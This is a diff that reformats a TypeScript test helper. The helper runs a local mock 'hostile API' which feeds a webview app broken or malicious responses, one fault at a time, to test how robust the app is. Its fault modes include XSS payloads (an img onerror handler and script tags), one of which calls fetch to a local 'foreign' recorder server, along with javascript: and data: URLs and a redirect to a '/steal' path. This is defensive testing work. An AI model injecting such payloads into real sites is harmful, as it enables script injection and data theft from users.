@@ -3,15 +3,35 @@ import { createMockApi } from '../../../examples/webview-app/server/mock';
 
 /** The ways the hostile API answers (one at a time, for every call). */
 export type Fault =
-  | 'none' | 'markup' | 'urls' | 'empty-data' | 'null-fields' | 'wrong-types' | 'truncated' | 'not-json'
-  | 'http-500-code-0' | 'redirect-foreign' | 'reset-mid-body' | 'never-answers';
+  | 'none'
+  | 'markup'
+  | 'urls'
+  | 'empty-data'
+  | 'null-fields'
+  | 'wrong-types'
+  | 'truncated'
+  | 'not-json'
+  | 'http-500-code-0'
+  | 'redirect-foreign'
+  | 'reset-mid-body'
+  | 'never-answers';
 
 export const FAULTS: Fault[] = [
-  'markup', 'urls', 'empty-data', 'null-fields', 'wrong-types', 'truncated', 'not-json', 'http-500-code-0', 'redirect-foreign', 'reset-mid-body',
+  'markup',
+  'urls',
+  'empty-data',
+  'null-fields',
+  'wrong-types',
+  'truncated',
+  'not-json',
+  'http-500-code-0',
+  'redirect-foreign',
+  'reset-mid-body',
 ];
 
 /** What the markup payload does if it ever runs: a flag the tests read, and a request to the foreign recorder. */
-const payload = (foreign: string) => `<img src=x onerror="window.__xss=1;fetch('${foreign}/xss')"><script>window.__xss=1</script>`;
+const payload = (foreign: string) =>
+  `<img src=x onerror="window.__xss=1;fetch('${foreign}/xss')"><script>window.__xss=1</script>`;
 
 /** Keys whose values are URLs (images, links, redirects). */
 const URL_KEY = /url|logo|img|image|banner|barcode|code$|content|contract|h5/i;
@@ -19,13 +39,15 @@ const URL_KEY = /url|logo|img|image|banner|barcode|code$|content|contract|h5/i;
 function mapStrings(value: unknown, map: (text: string, key: string) => unknown, key = ''): unknown {
   if (typeof value === 'string') return map(value, key);
   if (Array.isArray(value)) return value.map((item) => mapStrings(item, map, key));
-  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, mapStrings(v, map, k)]));
+  if (value && typeof value === 'object')
+    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, mapStrings(v, map, k)]));
   return value;
 }
 
 function mapLeaves(value: unknown, map: (leaf: unknown) => unknown): unknown {
   if (Array.isArray(value)) return value.map((item) => mapLeaves(item, map));
-  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, mapLeaves(v, map)]));
+  if (value && typeof value === 'object')
+    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, mapLeaves(v, map)]));
   return map(value);
 }
 
@@ -44,10 +66,18 @@ export async function startHostileApi() {
   const foreignHits: string[] = [];
   const open = new Set<ServerResponse>();
 
-  const foreignServer = createServer((req, res) => { foreignHits.push(`${req.method} ${req.url}`); res.end('{}'); });
+  const foreignServer = createServer((req, res) => {
+    foreignHits.push(`${req.method} ${req.url}`);
+    res.end('{}');
+  });
   const foreign = await listen(foreignServer);
 
-  const hostileUrls = [`javascript:window.__xss=1`, `data:text/html,<script>window.__xss=1</script>`, `${foreign}/img.png`, `//${new URL(foreign).host}/x.png`];
+  const hostileUrls = [
+    `javascript:window.__xss=1`,
+    `data:text/html,<script>window.__xss=1</script>`,
+    `${foreign}/img.png`,
+    `//${new URL(foreign).host}/x.png`,
+  ];
 
   async function answer(req: IncomingMessage, res: ServerResponse) {
     const chunks: Buffer[] = [];
@@ -66,39 +96,97 @@ export async function startHostileApi() {
       return res.end(raw);
     }
     const envelope = JSON.parse(raw.toString('utf8')) as Record<string, unknown>;
-    const send = (status: number, text: string) => { res.writeHead(status, { 'Content-Type': 'application/json' }); res.end(text); };
+    const send = (status: number, text: string) => {
+      res.writeHead(status, { 'Content-Type': 'application/json' });
+      res.end(text);
+    };
     switch (fault) {
-      case 'markup': return send(200, JSON.stringify({ ...envelope, data: mapStrings(envelope.data, (text) => `${text}${payload(foreign)}`) }));
-      case 'urls': return send(200, JSON.stringify({ ...envelope, data: mapStrings(envelope.data, (text, key) => (URL_KEY.test(key) ? hostileUrls[urlTurn++ % hostileUrls.length] : text)) }));
-      case 'empty-data': return send(200, JSON.stringify({ ...envelope, data: {} }));
-      case 'null-fields': return send(200, JSON.stringify({ ...envelope, data: envelope.data && typeof envelope.data === 'object' ? Object.fromEntries(Object.keys(envelope.data).map((k) => [k, null])) : null }));
-      case 'wrong-types': return send(200, JSON.stringify({ ...envelope, data: mapLeaves(envelope.data, (leaf) => (typeof leaf === 'string' ? { text: leaf } : typeof leaf === 'number' ? [leaf] : leaf)) }));
-      case 'truncated': { const text = JSON.stringify(envelope); return send(200, text.slice(0, Math.floor(text.length / 2))); }
-      case 'not-json': res.writeHead(200, { 'Content-Type': 'text/html' }); return res.end('<html><body>Service unavailable<script>window.__xss=1</script></body></html>');
-      case 'http-500-code-0': return send(500, JSON.stringify(envelope));
-      case 'redirect-foreign': res.writeHead(302, { Location: `${foreign}/steal${req.url}` }); return res.end();
+      case 'markup':
+        return send(
+          200,
+          JSON.stringify({ ...envelope, data: mapStrings(envelope.data, (text) => `${text}${payload(foreign)}`) }),
+        );
+      case 'urls':
+        return send(
+          200,
+          JSON.stringify({
+            ...envelope,
+            data: mapStrings(envelope.data, (text, key) =>
+              URL_KEY.test(key) ? hostileUrls[urlTurn++ % hostileUrls.length] : text,
+            ),
+          }),
+        );
+      case 'empty-data':
+        return send(200, JSON.stringify({ ...envelope, data: {} }));
+      case 'null-fields':
+        return send(
+          200,
+          JSON.stringify({
+            ...envelope,
+            data:
+              envelope.data && typeof envelope.data === 'object'
+                ? Object.fromEntries(Object.keys(envelope.data).map((k) => [k, null]))
+                : null,
+          }),
+        );
+      case 'wrong-types':
+        return send(
+          200,
+          JSON.stringify({
+            ...envelope,
+            data: mapLeaves(envelope.data, (leaf) =>
+              typeof leaf === 'string' ? { text: leaf } : typeof leaf === 'number' ? [leaf] : leaf,
+            ),
+          }),
+        );
+      case 'truncated': {
+        const text = JSON.stringify(envelope);
+        return send(200, text.slice(0, Math.floor(text.length / 2)));
+      }
+      case 'not-json':
+        res.writeHead(200, { 'Content-Type': 'text/html' });
+        return res.end('<html><body>Service unavailable<script>window.__xss=1</script></body></html>');
+      case 'http-500-code-0':
+        return send(500, JSON.stringify(envelope));
+      case 'redirect-foreign':
+        res.writeHead(302, { Location: `${foreign}/steal${req.url}` });
+        return res.end();
       case 'reset-mid-body': {
         const text = JSON.stringify(envelope);
         res.writeHead(200, { 'Content-Type': 'application/json', 'Content-Length': String(text.length) });
         res.write(text.slice(0, Math.floor(text.length / 2)));
         return setTimeout(() => res.socket?.destroy(), 20);
       }
-      case 'never-answers': open.add(res); res.on('close', () => open.delete(res)); return undefined;
-      default: return send(200, JSON.stringify(envelope));
+      case 'never-answers':
+        open.add(res);
+        res.on('close', () => open.delete(res));
+        return undefined;
+      default:
+        return send(200, JSON.stringify(envelope));
     }
   }
 
-  const server = createServer((req, res) => { answer(req, res).catch(() => res.destroy()); });
+  const server = createServer((req, res) => {
+    answer(req, res).catch(() => res.destroy());
+  });
   const url = await listen(server);
   return {
     url,
     foreign,
-    setFault(next: Fault) { fault = next; urlTurn = 0; },
+    setFault(next: Fault) {
+      fault = next;
+      urlTurn = 0;
+    },
     requests,
     foreignHits,
     /** Connections the API holds open right now (for the "never answers" budget checks). */
     openConnections: () => open.size,
-    reset() { requests.length = 0; foreignHits.length = 0; fault = 'none'; for (const res of open) res.destroy(); },
+    reset() {
+      requests.length = 0;
+      foreignHits.length = 0;
+      fault = 'none';
+      for (const res of open) res.destroy();
+    },
     async close() {
       for (const res of open) res.destroy();
       server.closeAllConnections();
@@ -111,5 +199,7 @@ export async function startHostileApi() {
 export type HostileApi = Awaited<ReturnType<typeof startHostileApi>>;
 
 function listen(server: Server): Promise<string> {
-  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as { port: number }).port}`)));
+  return new Promise((resolve) =>
+    server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as { port: number }).port}`)),
+  );
 }
